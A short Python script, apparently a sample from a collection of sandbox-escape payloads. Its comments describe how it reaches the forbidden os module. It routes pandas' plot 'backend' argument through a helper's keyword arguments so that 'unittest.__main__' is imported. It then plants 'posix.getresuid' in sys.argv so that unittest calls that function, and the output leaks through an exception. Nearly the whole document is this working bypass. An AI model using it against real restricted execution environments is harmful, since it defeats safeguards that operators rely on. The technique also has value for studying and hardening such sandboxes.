# source: pandas plotting backend loader (_load_backend -> importlib.import_module); unittest.loader.loadTestsFromName
# family: module import by name via pandas plot backend, smuggled through a helper's own **kwargs (def draw(frame, **kw): frame.plot(**kw)) fed with a literal-key dict
# goal: call os.getresuid/os.getcwd style functions of the forbidden os module (here posix.getresuid) -> `id`-like output
import sys
import pandas as pd

def draw(frame, **kw):
    return frame.plot(**kw)

sys.argv.append("posix.getresuid")
df = pd.DataFrame({"close": [1.0, 1.5, 2.0]})
try:
    draw(df, **{"backend": "unittest.__main__"})
except (ValueError, TypeError, SystemExit) as e:
    print("leak:", e)
